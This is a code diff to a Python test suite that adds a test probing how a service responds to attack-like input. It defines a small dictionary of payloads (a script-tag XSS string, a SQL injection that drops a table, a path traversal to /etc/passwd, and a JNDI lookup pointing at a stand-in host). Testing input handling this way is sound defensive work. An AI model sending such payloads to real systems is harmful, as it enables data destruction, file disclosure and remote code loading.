@@ -29,6 +29,12 @@ from fixtures.objects.workspace import Workspace
 from fixtures.strategies import IMMUTABLE_NAMES
 
 LATER_NAMES = ("edges", "consistency")
+ATTACKS = {
+    "markup": "<script>alert(1)</script>",
+    "SQL": "' OR 1=1; DROP TABLE amber; --",
+    "a path": "../../../../etc/passwd",
+    "a look-up": "${jndi:ldap://amber.example/birch}",
+}
 LIMIT_HEADERS = (
     "retry-after",
     "x-ratelimit-limit",
@@ -207,6 +213,16 @@ def test_what_becomes_of_lone_surrogates(observed: Subject) -> str:
     }
     answer = observed.attempt(content=rb'{"note": "before\ud800after"}')
     return became(answer, "note", "before\ud800after", words)
+
+
+@observation("text-of-attacks")
+def test_what_text_is_answered_with_that_looks_like_an_attack(observed: Subject) -> str:
+    texts = dict(zip(observed.fresh_names(len(ATTACKS)), ATTACKS.values(), strict=True))
+    answer = observed.attempt(texts)
+    if answer.accepted:
+        return told(answer)
+    answers = [observed.attempt({name: text}) for name, text in texts.items()]
+    return grouped({kind: told(one) for kind, one in zip(ATTACKS, answers, strict=True)})
 
 
 @observation("empty-name")
